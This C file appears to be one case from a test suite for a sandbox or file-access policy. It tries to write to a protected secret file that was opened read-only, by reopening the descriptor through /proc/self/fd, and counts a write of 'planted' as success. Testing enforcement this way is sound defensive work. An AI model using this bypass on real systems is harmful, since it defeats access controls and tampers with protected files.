/* technique: opens for reading what may only be read, and opens that descriptor again for writing
 * source: proc_pid_fd(5)
 * success: vault/secret.txt was changed
 * policy: kept
 * control: permissive
 * event: FileWrite
 */
#include "attack.h"

int main(void)
{
	char path[64];

	snprintf(path, sizeof path, "/proc/self/fd/%d", open(SECRET_FILE, O_RDONLY));
	int fd = open(path, O_WRONLY | O_APPEND);
	return fd < 0 || write(fd, "planted", 7) != 7 ? failed("write") : 0;
}
